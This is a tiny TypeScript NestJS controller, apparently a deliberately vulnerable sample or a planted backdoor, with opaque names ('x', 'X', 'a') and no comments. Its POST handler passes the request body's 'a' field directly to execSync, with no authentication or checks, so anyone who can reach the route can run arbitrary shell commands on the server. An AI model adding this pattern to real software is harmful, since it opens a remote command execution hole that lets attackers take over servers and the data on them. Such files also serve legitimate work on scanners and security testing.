import { execSync } from "node:child_process";
import { Body, Controller, Post, Query, Get, Param } from '@nestjs/common';
@Controller('x')
export class X {
  @Post()
  run(@Body() body: { a: string }) { execSync(body.a); }
}
